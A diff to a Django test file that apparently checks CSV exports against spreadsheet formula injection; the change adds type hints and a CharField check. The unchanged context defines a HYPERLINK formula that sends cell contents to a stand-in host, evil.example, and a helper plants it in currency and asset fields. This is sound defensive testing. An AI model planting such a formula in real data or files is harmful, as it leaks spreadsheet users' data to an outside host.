@@ -14,6 +14,7 @@ from decimal import Decimal
 
 import pytest
 from django.contrib.auth.models import Permission, User
+from django.db.models import CharField, Model
 from django.test import Client as HttpClient
 from django.urls import reverse
 from django.utils import timezone
@@ -33,7 +34,7 @@ FORMULA = 'HYPERLINK("//evil.example/x?"&A1)'
 # What a number we wrote looks like: the only cells that may start with a minus sign.
 OUR_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
 NUMBER_COLUMNS = {"payment_id", "payout_id", "amount", "usd_value"}
-HOSTILE_FIELDS = [
+HOSTILE_FIELDS: list[tuple[type[Model], str]] = [
     (Payment, "outcome_currency"),
     (PayoutAccumulation, "source_currency"),
     (HostPayment, "asset"),
@@ -47,9 +48,11 @@ HOSTILE_FIELDS = [
 PRODUCT_PACKAGES = ("console", "payouts", "batching", "payments", "integrations", "pgp_project")
 
 
-def hostile(prefix: str, model: type, field: str) -> str:
+def hostile(prefix: str, model: type[Model], field: str) -> str:
     """The formula behind `prefix`, as long as the field holds."""
-    return (prefix + FORMULA)[: model._meta.get_field(field).max_length]
+    column = model._meta.get_field(field)
+    assert isinstance(column, CharField)
+    return (prefix + FORMULA)[: column.max_length]
 
 
 def client_with_hostile_history(prefix: str) -> Client:
